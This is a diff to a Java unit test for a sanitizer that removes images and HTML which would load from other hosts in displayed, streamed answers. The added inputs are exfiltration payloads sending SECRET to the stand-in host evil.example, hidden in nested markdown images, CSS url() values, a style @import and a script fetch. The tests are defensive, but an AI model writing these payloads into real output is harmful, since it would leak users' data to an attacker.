@@ -18,7 +18,7 @@ class AnswerImagesTest {
                 "![ours](https://cdn.example.com/a.png?x=1 \"title\") and ![too](https://a.pics.example/b)",
                 "![beside](images/a.png) ![inline](data:image/png;base64,iVBORw0KGgo=)",
                 "`if (!x[0]) return;` and !important, ![not an image",
-                "<b>bold</b> <br> <p>",
+                "<b>bold</b> <br> <p> <a href=\"https://docs.example\">docs</a> List<String> x = y; i<n;i++",
                 "Ends with !",
                 "Ends with <",
                 "[![alt](https://cdn.example.com/a)](https://elsewhere.example)"
@@ -57,7 +57,12 @@ class AnswerImagesTest {
                 "<object data=https://evil.example/SECRET>",
                 "<svg><image href=\"https://evil.example/SECRET\"/></svg>",
                 "<body background=https://evil.example/SECRET>",
-                "<script src=https://evil.example/SECRET></script>"
+                "<script src=https://evil.example/SECRET></script>",
+                "![x](https://evil.example/?d=SECRET \"](a.png )\")",
+                "![![x](https://evil.example/?d=SECRET)](a b)",
+                "![x](a.png \"![y](https://evil.example/SECRET)\")",
+                "<div style=\"background:url(https://evil.example/SECRET)\">",
+                "<a href=\"#\" style=\"background:url(https://evil.example/SECRET)\">"
             })
     void whatWouldLoadFromElsewhereIsTakenOut(String image) {
         for (int size = 1; size <= image.length(); size += 5) {
@@ -78,9 +83,18 @@ class AnswerImagesTest {
         ![ref] alone                                | [ref] alone
         ![x](https://evil.example/never closed      | [x](https://evil.example/never closed
         <img src=https://evil.example/x             | &lt;img src=https://evil.example/x
+        <style>@import "//evil.example"</style>     | &lt;style>@import "//evil.example"&lt;/style>
+        <script>fetch("//evil.example")</script>    | &lt;script>fetch("//evil.example")&lt;/script>
         """)
     void whatIsNoWholeImageBecomesTextOrALink(String text, String expected) {
         assertThat(inPieces(text, 4)).isEqualTo(expected);
+    }
+
+    @Test
+    void aTagThatHidesItsEndIsATagNoMore() {
+        String shown = inPieces("<b title=\">\" style=\"background:url(//evil.example/x)\">bold", 7);
+
+        assertThat(shown).startsWith("[image not shown]").doesNotContain("<");
     }
 
     @Test
